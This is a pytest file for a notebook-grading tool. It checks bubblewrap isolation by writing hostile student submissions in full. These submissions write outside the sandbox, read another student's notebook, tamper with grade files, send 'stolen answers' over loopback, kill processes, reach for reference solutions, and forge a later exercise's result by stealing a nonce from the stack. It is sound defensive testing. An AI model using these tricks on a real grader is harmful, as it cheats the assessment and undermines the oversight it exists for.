"""Isolation under bubblewrap, proved by hostile submissions; masked specs; forbidden calls.

Each hostile submission tries one kind of harm and keeps score of its own success: its `inc`
returns the right answer only when the attack worked, so a point for `inc` means harm was done.
The same attacks run twice: isolated (every one must fail, and the harm must be absent when
looked for from outside) and, as the control that shows the test can fail, with isolation off
(every one must succeed). The kill attack in the control only targets a decoy process: without
isolation it would kill the grader, which is this test process.

An honest submission gets full marks under isolation, and a notebook-03 submission that reaches
for the reference solutions (the masked spec, a captured `coursekit.quant` function, a copy of
its code) scores 0 for those exercises, with a message that says why.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from coursekit.exercises import evaluate, list_exercises
from coursekit.grading import GradeOptions, grade_batch, load_registry
from coursekit.grading.isolation import IsolationError, bwrap_path, probe, resolve

SPEC = '''
from coursekit.exercises.spec import Exercise

def _inc(n):
    return n + 1

def _greet(name):
    return "hi " + name

EXERCISES = [
    Exercise(id="02.inc", name="inc", reference=_inc, cases=lambda: [(1,), (41,)]),
    Exercise(id="02.greet", name="greet", reference=_greet, cases=lambda: [("a",), ("bob",)]),
]
'''

HONEST = ["def inc(n):\n    return n + 1", "def greet(name):\n    return 'hi ' + name"]


def scored(attack: str) -> list[str]:
    """A submission whose `inc` passes only if ATTACK (code that sets `worked`) did harm."""
    return [f"worked = False\ntry:\n{_indent(attack)}\nexcept BaseException as exc:\n    print('blocked:', exc)",
            "def inc(n):\n    return n + 1 if worked else n"]


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.splitlines())


def attacks(root: Path, port: int, decoy: int, grader: int | None) -> dict[str, list[str]]:
    outside, out, sibling = root / "outside", root / "out", root / "subs" / "02_honest.ipynb"
    kill = f"for pid in {[p for p in (decoy, grader) if p]!r}:\n    try:\n        os.kill(pid, signal.SIGKILL)\n" \
           f"        worked = True\n    except OSError:\n        pass"
    return {
        "02_write_outside": scored(f"open({str(outside / 'pwned.txt')!r}, 'w').write('pwned')\nworked = True"),
        "02_read_sibling": scored(f"worked = 'def inc' in open({str(sibling)!r}).read()"),
        "02_write_output": scored(f"open({str(out / 'results' / 'pwned.json')!r}, 'w').write('{{}}')\n"
                                  f"open({str(out / 'grades.csv')!r}, 'a').write('pwned')\nworked = True"),
        "02_network": scored(f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                             f"s.sendall(b'stolen answers')\ns.close()\nworked = True"),
        "02_kill": scored(f"import os, signal\n{kill}"),
        "02_reference": scored(
            "import glob, os, coursekit.exercises as ce\n"
            "try:\n    from coursekit.exercises.nb03_quantization_theory import linear_quantize\n    worked = True\n"
            "except ImportError:\n    pass\n"
            "spec = os.path.join(os.path.dirname(ce.__file__), 'nb03_quantization_theory.py')\n"
            "worked = worked or 'def linear_quantize' in open(spec).read()\n"
            f"worked = worked or bool(glob.glob({str(Path(__file__).resolve().parents[1] / 'notebooks' / '*.ipynb')!r}))"),
    }


def write_nb(path: Path, cells: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells]), path)
    return path


class Listener:
    """A TCP listener on loopback that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port, self.got, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.got.append(conn.recv(100))
            except OSError:
                self.got.append(b"")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


BWRAP_OK, BWRAP_WHY = probe(bwrap_path())
needs_bwrap = pytest.mark.skipif(not BWRAP_OK, reason=f"bubblewrap cannot run here: {BWRAP_WHY}")

# Called by the harness of 02.inc, `inc` finds the run's nonce on the stack and forges the result
# file of 02.greet, whose own harness cell then never finishes.
FORGE_NEXT = [
    "import json, sys\n"
    "def inc(n):\n"
    "    f = sys._getframe(1)\n"
    "    while f is not None and 'out_stem' not in f.f_locals:\n"
    "        f = f.f_back\n"
    "    if f is not None:\n"
    "        stem, nonce = f.f_locals['out_stem'].replace('-r0', '-r1'), f.f_locals['nonce']\n"
    "        case = lambda v: {'r': 'ok', 'value': {'t': 'str', 'v': v}}\n"
    "        doc = {'format': 'coursekit-transport/1', 'nonce': nonce, 'exercise': '02.greet', 'function': 'ok',\n"
    "               'function_type': '', 'cases': [case('hi a'), case('hi bob')], 'tensors': [], 'forbidden': []}\n"
    "        open(stem + '.json', 'w').write(json.dumps(doc))\n"
    "    return n + 1",
    "def greet(name):\n    while True:\n        pass",
]

FORBID_03 = [  # notebook 03: reach for the reference in every way but one honest answer
    "import torch, types\nimport coursekit.quant as Q\nfrom coursekit.quant import linear_quantize as lq",
    "def linear_quantize(x, scale, zero_point):\n    return lq(x, scale, zero_point)   # captured before the harness",
    "qe = types.FunctionType(Q.quantization_error.__code__, Q.quantization_error.__globals__)\n"
    "def mse(x, y):\n    try:\n        return qe(x, y)                     # a copy of the function object\n"
    "    except BaseException:\n        return (x - y).pow(2).mean().item()",
    "def linear_dequantize(codes, scale, zero_point):\n    return scale * (codes.float() - zero_point)",
]


def run_batch(root: Path, isolation: str, grader_pid: int | None):
    registry = {**load_registry(["ck_iso_spec"]), **{e.id: e for e in list_exercises("03")}}
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    listener = Listener()
    try:
        (root / "outside").mkdir(parents=True)
        write_nb(root / "subs" / "02_honest.ipynb", HONEST)
        write_nb(root / "subs" / "02_forge_next.ipynb", FORGE_NEXT)
        for name, cells in attacks(root, listener.port, decoy.pid, grader_pid).items():
            write_nb(root / "subs" / f"{name}.ipynb", cells)
        if isolation != "none":
            write_nb(root / "subs" / "03_forbidden.ipynb", FORBID_03)
        results = grade_batch([root / "subs"], root / "out", registry=registry, progress=False,
                              options=GradeOptions(timeout=120, jobs=2, exercise_timeout=10, isolation=isolation))
        decoy_alive = decoy.poll() is None
    finally:
        listener.close()
        decoy.kill()
        decoy.wait()
    return {Path(r.path).stem: r for r in results}, listener.got, decoy_alive


@pytest.fixture(scope="module")
def spec_module(tmp_path_factory):
    d = tmp_path_factory.mktemp("isospec")
    (d / "ck_iso_spec.py").write_text(SPEC)
    sys.path.insert(0, str(d))
    yield
    sys.path.remove(str(d))


@pytest.fixture(scope="module")
def isolated(spec_module, tmp_path_factory):
    if not BWRAP_OK:
        pytest.skip(f"bubblewrap cannot run here: {BWRAP_WHY}")
    root = tmp_path_factory.mktemp("isolated")
    results, got, decoy_alive = run_batch(root, "bwrap", os.getpid())
    return {"results": results, "got": got, "decoy_alive": decoy_alive, "root": root}


@pytest.fixture(scope="module")
def control(spec_module, tmp_path_factory):
    root = tmp_path_factory.mktemp("control")
    results, got, decoy_alive = run_batch(root, "none", None)
    return {"results": results, "got": got, "decoy_alive": decoy_alive, "root": root}


ATTACKS = ["02_write_outside", "02_read_sibling", "02_write_output", "02_network", "02_kill", "02_reference"]


@needs_bwrap
@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_fails_under_isolation(isolated, attack):
    r = isolated["results"][attack]
    assert r.status == "ok", r.to_json()
    assert r.exercises["02.inc"].points == 0, f"{attack} did harm under isolation: {r.exercises['02.inc'].message}"


def _zmtp_greeting(data: bytes) -> bool:
    """The 10-byte signature every ZeroMQ (ZMTP 3) connection opens with, and nothing else."""
    return len(data) >= 10 and data[0] == 0xFF and data[9] == 0x7F and b"stolen" not in data


@needs_bwrap
def test_no_harm_is_found_from_outside(isolated):
    root = isolated["root"]
    assert not (root / "outside" / "pwned.txt").exists()
    assert not (root / "out" / "results" / "pwned.json").exists()
    assert "pwned" not in (root / "out" / "grades.csv").read_text()
    # Only the attack's own bytes count. The listener's port is an ephemeral one, and a ZeroMQ socket
    # of an earlier kernel in this process (which reconnects to its closed port for as long as it
    # lives) can land on it with nothing but its greeting (0xff ... 0x7f): seen once in a full run.
    attack = [g for g in isolated["got"] if not _zmtp_greeting(g)]
    assert attack == [], "the loopback listener was reached"
    assert isolated["decoy_alive"], "the kernel killed a process of the grader's user"
    doc = json.loads((root / "out" / "grades.json").read_text())
    assert doc["isolation"]["isolated"] is True and "bubblewrap" in doc["isolation"]["how"]
    assert not (root / "out" / "summary.md").read_text().startswith("> **WARNING")


@needs_bwrap
def test_honest_work_gets_full_marks_under_isolation(isolated):
    r = isolated["results"]["02_honest"]
    assert (r.status, r.total, r.max_total) == ("ok", 2, 2), r.to_json()


def test_control_without_isolation_every_attack_does_harm(control):
    """The same attacks with isolation off: each one works, so the isolated run's zeros mean something."""
    for attack in ATTACKS:
        r = control["results"][attack]
        assert r.exercises["02.inc"].points == 1, (attack, r.exercises["02.inc"].message)
    root = control["root"]
    assert (root / "outside" / "pwned.txt").exists() and (root / "out" / "results" / "pwned.json").exists()
    assert control["got"] == [b"stolen answers"] and not control["decoy_alive"]
    doc = json.loads((root / "out" / "grades.json").read_text())
    assert doc["isolation"] == {"isolated": False, "how": "none",
                                "reason": "isolation was turned off (--isolation none)"}
    assert (root / "out" / "summary.md").read_text().startswith("> **WARNING: submissions were NOT isolated")
    assert control["results"]["02_honest"].total == 2


@needs_bwrap
def test_forbidden_calls_score_zero_even_through_captured_references(isolated):
    ex = isolated["results"]["03_forbidden"].exercises
    assert ex["03.linear_dequantize"].points == 1, ex["03.linear_dequantize"].message
    for ex_id, name in (("03.linear_quantize", "coursekit.quant.linear_quantize"),
                        ("03.mse", "coursekit.quant.quantization_error")):
        assert ex[ex_id].status == "forbidden" and ex[ex_id].points == 0, ex[ex_id].message
        assert f"`{name}`" in ex[ex_id].message and "write it yourself" in ex[ex_id].message
    assert ex["03.scale_and_zero_point"].status == "missing"


def test_a_result_forged_for_a_later_exercise_does_not_count(control):
    """Even without isolation: a result file counts only when its own harness cell finished."""
    ex = control["results"]["02_forge_next"].exercises
    assert ex["02.inc"].points == 1
    assert ex["02.greet"].status == "timeout" and ex["02.greet"].points == 0, ex["02.greet"].message


def test_check_in_the_learners_notebook_is_unchanged():
    """check() does not mask or forbid: a delegating answer passes there, as it always has."""
    import coursekit.quant as Q
    from coursekit.exercises.nb03_quantization_theory import linear_quantize
    assert callable(linear_quantize)
    r = evaluate("03.linear_quantize", lambda x, s, z: Q.linear_quantize(x, s, z))
    assert r.passed, r.message


def test_without_bubblewrap_auto_falls_back_and_says_so(monkeypatch):
    monkeypatch.setenv("COURSEKIT_BWRAP", "/nonexistent/bwrap")
    iso = resolve("auto")
    assert not iso.isolated and "bwrap" in iso.reason and iso.warning.startswith("WARNING")
    with pytest.raises(IsolationError):
        resolve("bwrap")
    with pytest.raises(ValueError, match="isolation must be one of"):
        resolve("docker")


def test_cli_isolation_bwrap_required_but_missing(tmp_path, monkeypatch, capsys):
    from coursekit.cli import main
    monkeypatch.setenv("COURSEKIT_BWRAP", "/nonexistent/bwrap")
    sub = write_nb(tmp_path / "02_x.ipynb", HONEST)
    assert main(["grade", str(sub), "--out", str(tmp_path / "o"), "--isolation", "bwrap"]) == 2
    assert "--isolation bwrap" in capsys.readouterr().err
    assert main(["grade", str(sub), "--out", str(tmp_path / "o"), "--isolation", "docker"]) == 2
    assert "--isolation must be one of" in capsys.readouterr().err
